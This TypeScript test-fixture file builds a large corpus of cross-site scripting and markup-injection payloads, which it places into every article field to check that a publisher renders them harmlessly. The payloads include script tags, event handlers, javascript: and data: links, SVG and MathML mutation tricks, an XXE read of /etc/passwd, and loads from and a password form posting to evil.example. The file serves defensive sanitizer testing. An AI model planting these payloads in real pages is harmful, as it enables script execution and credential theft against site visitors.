/**
 * Attempts to have something run in a reader: every way of writing active content that we know, in every field of an
 * article that people fill. All of them are published, as harmless text or without what is active.
 */

import { type HostileInput, markdown, PUBLISHED } from './hostile-input.ts';

/** The call that an attack runs: a browser that reaches it shows a dialog, and any other trace has its name. */
const CALL = 'alert(1)';

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<script src=//evil.example/a.js>`,
  `<script type="module">${CALL}</script>`,
  `<script\n>${CALL}</script\n>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `</p><script>${CALL}</script>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object type="text/html" data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src="data:image/svg+xml,<svg onload='${CALL}'>">`,
  `<applet code="Evil.class"></applet>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/a.css">`,
  `<link rel="import" href="https://evil.example/a.html">`,
  `<style>@import "https://evil.example/a.css";</style>`,
  `<style>body{background:url("javascript:${CALL}")}</style>`,
  `<frameset><frame src="javascript:${CALL}"></frameset>`,
  `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`,
  `<form><button formaction="javascript:${CALL}">Go</button></form>`,
  `<isindex type="image" src="1" onerror="${CALL}">`,
  `<portal src="https://evil.example/"></portal>`,
  `<dialog open onclose="${CALL}">x</dialog>`,
  `<keygen autofocus onfocus="${CALL}">`,
];

const HANDLERS = [
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}">`,
  `<IMG SRC=x ONERROR=${CALL}>`,
  `<img src=x one\u0000rror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src="x\`onerror=${CALL}">`,
  `<img src=x:x onerror\u000c=${CALL}>`,
  `<img """><script>${CALL}</script>">`,
  `<body onload="${CALL}">`,
  `<div onmouseover="${CALL}">x</div>`,
  `<p onclick=${CALL}>x</p>`,
  `<a href="#" onfocus="${CALL}" autofocus>x</a>`,
  `<video><source onerror="${CALL}"></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<video poster="javascript:${CALL}"></video>`,
  `<details open ontoggle="${CALL}"><summary>x</summary></details>`,
  `<marquee onstart="${CALL}">x</marquee>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select onfocus=${CALL} autofocus><option>x</select>`,
  `<textarea onfocus=${CALL} autofocus>x</textarea>`,
  `<p style="behavior:url(https://evil.example/a.htc)">x</p>`,
  `<p style="width:expression(${CALL})">x</p>`,
  `<div style="background-image:url('javascript:${CALL}')">x</div>`,
  `<div style="position:fixed;inset:0;background:#fff;z-index:9999">Covers all</div>`,
  `<p onpointerrawupdate="${CALL}" popover>x</p>`,
  `<a href=x ping="https://evil.example/">x</a>`,
];

const ADDRESSES = [
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="JaVaScRiPt:${CALL}">x</a>`,
  `<a href=" javascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<a href="java\nscript:${CALL}">x</a>`,
  `<a href="\u0001javascript:${CALL}">x</a>`,
  `<a href="java&#9;script:${CALL}">x</a>`,
  `<a href="&#106;&#97;vascript:${CALL}">x</a>`,
  `<a href="&#x6A;avascript&colon;${CALL}">x</a>`,
  `<a href="javascript&#58;${CALL}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="view-source:https://evil.example/">x</a>`,
  `<a href="feed:javascript:${CALL}">x</a>`,
  `<img src="javascript:${CALL}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>">`,
  `<img srcset="javascript:${CALL} 1x, data:text/html,x 2x">`,
  `<blockquote cite="javascript:${CALL}">x</blockquote>`,
  `[x](javascript:${CALL})`,
  `[x](<javascript:${CALL}>)`,
  `[x](JAVASCRIPT:${CALL})`,
  `[x](javascript&#58;${CALL})`,
  `[x](data:text/html,<script>${CALL}</script>)`,
  `![x](javascript:${CALL})`,
  `![x](data:text/html,x)`,
  `<javascript:${CALL}>`,
  `[x]: javascript:${CALL}\n\n[x]`,
  `[x](https://good.example/"onmouseover="${CALL})`,
  `![" onerror="${CALL}](x.example)`,
];

const OTHER_NAMESPACES = [
  `<svg onload=${CALL}></svg>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${CALL} /></svg>`,
  `<svg><set attributeName=onmouseover to=${CALL} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${CALL}"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><title><style></title><img src=x onerror=${CALL}></style></svg>`,
  `<math><a xlink:href="javascript:${CALL}">x</a></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
];

/** Text that one parser takes for markup and another doesn't. */
const CHANGELINGS = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode="open"><script>${CALL}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>"></xmp>`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<title><img src=x onerror=${CALL}></title>`,
  `<textarea></textarea><img src=x onerror=${CALL}></textarea>`,
  `<noembed><img src=x onerror=${CALL}></noembed>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `]]><script>${CALL}</script>`,
  `]]>]]&gt;<![CDATA[<script>${CALL}</script>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<?php echo "<script>${CALL}</script>" ?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `\`onmouseover=${CALL}`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</content></entry><entry><title>Forged</title>`,
  `</script><script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<img src="a.png" alt="--><script>${CALL}</script>">`,
  `<table><td background="javascript:${CALL}">x</table>`,
  `<p id="__proto__" name="constructor">x</p>`,
  `<a id=location href=x></a><a id=location name=href href="javascript:${CALL}">x</a>`,
  `<a href="https://good.example/" target="_blank" rel="opener">x</a>`,
  `<x-element onclick=${CALL}>x</x-element>`,
  `<p\u2028onclick=${CALL}>x</p>`,
  `<p \u00a0onclick=${CALL}>x</p>`,
  `< script>${CALL}</ script>`,
  `<script`,
  `<img src=x onerror=${CALL}`,
  `<a href="javascript:${CALL}`,
];

const ATTACKS = [...ELEMENTS, ...HANDLERS, ...ADDRESSES, ...OTHER_NAMESPACES, ...CHANGELINGS];

/** A field of an article, as a file in which an attack stands there. JSON's way to write text is YAML's as well. */
const FIELDS: Readonly<Record<string, (attack: string) => { readonly extension: string; readonly body: string }>> = {
  'Markdown text': (attack) => ({ extension: 'md', body: markdown(['title: Text'], `Before.\n\n${attack}\n\nAfter.`) }),
  'Markdown inside a line': (attack) => ({
    extension: 'md',
    body: markdown(['title: Line'], `Before ${attack} after.`),
  }),
  'Markdown image text': (attack) => ({
    extension: 'md',
    body: markdown(['title: Image'], `Text ![${attack}](https://good.example/a.png)`),
  }),
  'Markdown link title': (attack) => ({
    extension: 'md',
    body: markdown(['title: Link'], `[x](https://good.example/ "${attack}")`),
  }),
  'Markdown code': (attack) => ({
    extension: 'md',
    body: markdown(['title: Code'], `\`\`\`${attack.slice(0, 20)}\n${attack}\n\`\`\`\n\nEnd.`),
  }),
  'HTML body': (attack) => ({
    extension: 'html',
    body: `<!doctype html><title>HTML</title><body><p>Before.</p>${attack}<p>After.</p></body>`,
  }),
  'JSON HTML': (attack) => ({
    extension: 'json',
    body: JSON.stringify({ title: 'JSON', content_html: `<p>Before.</p>${attack}` }),
  }),
  'JSON text': (attack) => ({
    extension: 'json',
    body: JSON.stringify({ title: 'JSON', content_text: `Before. ${attack}` }),
  }),
  'plain text': (attack) => ({ extension: 'txt', body: `Plain\n\nBefore.\n\n${attack}\n\nAfter.\n` }),
  title: (attack) => withFields({ title: attack }),
  summary: (attack) => withFields({ summary: attack }),
  author: (attack) => withFields({ author: { name: attack } }),
  'author address': (attack) => withFields({ author: { name: 'Ann', url: attack, avatar: attack, email: attack } }),
  tag: (attack) => withFields({ tags: [attack.slice(0, 90)] }),
  section: (attack) => withFields({ section: attack.slice(0, 90) }),
  'image facts': (attack) =>
    withFields({ image: { src: 'https://good.example/a.png', alt: attack, caption: attack, credit: attack } }),
  'image address': (attack) => withFields({ image: attack }),
  'attachment title': (attack) => withFields({ attachments: [{ url: 'https://good.example/a.pdf', title: attack }] }),
  rights: (attack) => withFields({ rights: attack }),
};

function withFields(fields: Readonly<Record<string, unknown>>): { readonly extension: string; readonly body: string } {
  const lines = Object.entries({ title: 'Fields', ...fields }).map(
    ([name, value]) => `${name}: ${JSON.stringify(value)}`,
  );
  return { extension: 'md', body: markdown(lines, 'Text.') };
}

export const SCRIPTS: readonly HostileInput[] = Object.entries(FIELDS).flatMap(([field, write]) =>
  ATTACKS.map((attack, index) => {
    const { extension, body } = write(attack);
    const folder = field.toLowerCase().replaceAll(' ', '-');
    return { name: `${field}: ${attack}`, key: `${folder}/${index}.${extension}`, body, expected: PUBLISHED };
  }),
);
